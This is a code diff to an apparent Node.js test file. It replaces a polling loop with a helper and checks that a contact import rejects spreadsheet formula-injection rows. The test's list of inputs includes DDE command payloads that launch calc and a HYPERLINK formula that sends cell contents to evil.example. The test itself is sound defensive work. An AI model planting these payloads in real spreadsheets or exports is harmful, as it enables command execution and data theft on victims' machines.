@@ -7,6 +7,7 @@ import {join} from 'node:path';
 import {get} from 'node:http';
 import {test} from 'node:test';
 import {promisify} from 'node:util';
+import {ended} from '../lib/until.mjs';
 import {onEachDatabase} from './world.mjs';
 
 const kFormulas = ['=1+1', '=cmd|\' /C calc\'!A0', '+1+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)', '=HYPERLINK("http://evil.example/"&A1,"a")',
@@ -67,7 +68,7 @@ onEachDatabase('formulas', (world) => {
     const {id, columns} = await world.admin.call('POST', '/contacts/import?name=a.csv', {raw, headers: {'Content-Type': 'text/csv'}});
     await world.admin.call('PATCH', `/imports/${id}`, {body: {columns: columns.map(({index, header}) => ({index, field: header}))}});
     const {job} = await world.admin.call('POST', `/imports/${id}/run`);
-    for (let i = 0; i < 100 && !['done', 'failed'].includes((await world.admin.call('GET', `/jobs/${job}`)).state); ++i) await new Promise((next) => setTimeout(next, 100));
+    await ended(world.admin, job);
     const {text, headers} = await world.admin.send('GET', `/imports/${id}/rejected`);
     assert.match(headers['content-disposition'], /^attachment/);
     assert.match(text, /calc/, 'the rows were refused for their addresses');
